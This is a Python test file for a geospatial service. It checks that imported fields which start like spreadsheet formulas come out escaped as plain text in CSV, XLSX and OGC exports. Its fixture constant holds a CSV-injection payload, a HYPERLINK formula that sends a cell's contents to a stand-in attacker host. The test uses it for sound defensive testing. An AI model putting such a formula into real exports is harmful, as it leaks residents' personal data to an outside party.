"""Imported text that a spreadsheet would run as a formula stays text in every export."""

from __future__ import annotations

import csv
import io

import geopandas as gpd
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from shapely.geometry import Point, box
from sqlalchemy import Engine

from geo_service.export import export_layer
from geo_service.ingest import import_frame
from geo_service.settings import ImportSettings

LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"详情")'


def _import(engine: Engine) -> None:
    settings = ImportSettings()
    building = {"address": ["@SUM(1+1)幢"], "community": ["翠苑一区"]}
    shape = [box(120.1565, 30.2685, 120.1575, 30.2690)]
    import_frame(
        engine, "buildings", gpd.GeoDataFrame(building, geometry=shape, crs=4326), settings=settings
    )
    homes = {
        "building": ["@SUM(1+1)幢"],
        "unit_label": ["-1-101"],
        "residents": [3],
        "contact_name": [LINK],
        "phone": ["+86 199-0000-0001"],
    }
    point = [Point(120.1570, 30.2688)]
    import_frame(
        engine, "households", gpd.GeoDataFrame(homes, geometry=point, crs=4326), settings=settings
    )


def test_formulas_stay_text_in_csv_and_xlsx(client: TestClient, district: Engine, tmp_path) -> None:
    _import(district)
    url = "/api/sites/AZF-2024-01/households"

    text = client.get(url, params={"format": "csv"}).text
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [c for row in rows if not row[0].startswith("#") for c in row]
    assert "'" + LINK in cells and "'+86 199-0000-0001" in cells and "'-1-101" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    assert "3" in cells  # numbers stay numbers

    book = load_workbook(io.BytesIO(client.get(url, params={"format": "xlsx"}).content))
    values = [(c.value, c.data_type) for row in book.worksheets[0].iter_rows() for c in row]
    assert ("'" + LINK, "s") in values
    assert not [v for v, kind in values if kind == "f"]
    assert (3, "n") in values

    ogc = client.get("/ogc/collections/buildings/items", params={"f": "csv"}).text
    assert "'@SUM(1+1)幢" in ogc and "\n@SUM" not in ogc and ",@SUM" not in ogc

    export_layer(district, "households", tmp_path / "h.csv", include_personal=True)
    exported = (tmp_path / "h.csv").read_text(encoding="utf-8-sig")
    assert f"\"'{LINK[:10]}" in exported or "'" + LINK.replace('"', '""') in exported
